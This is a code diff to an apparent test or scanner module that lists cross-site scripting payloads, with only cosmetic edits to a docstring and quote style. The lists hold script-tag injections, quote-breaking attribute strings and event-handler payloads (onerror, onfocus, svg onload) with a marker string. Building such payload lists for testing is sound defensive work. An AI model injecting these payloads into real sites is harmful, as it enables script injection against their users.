@@ -1,4 +1,4 @@
-"""Texts that try to become code where they are shown. Each carries its own mark, so that its place can be found again."""
+"""Texts that try to become code where they are shown. Each carries a mark, so that its place can be found again."""
 
 MARK = "xkiller"
 
@@ -6,7 +6,7 @@ _SCRIPTS = (
     "<script>{call}</script>",
     "<ScRiPt >{call}</sCrIpT>",
     "<script src=//127.0.0.1:9/x.js></script>",
-    "\"><script>{call}</script>",
+    '"><script>{call}</script>',
     "'><script>{call}</script>",
     "</title><script>{call}</script>",
     "</textarea><script>{call}</script>",
@@ -19,7 +19,7 @@ _SCRIPTS = (
 _HANDLERS = (
     "<img src=x onerror={call}>",
     "<img src=x onerror='{call}'//",
-    "\" onmouseover={call} autofocus onfocus={call} x=\"",
+    '" onmouseover={call} autofocus onfocus={call} x="',
     "' onfocus='{call}' autofocus='",
     "<svg onload={call}>",
     "<svg><animate onbegin={call} attributeName=x dur=1s>",
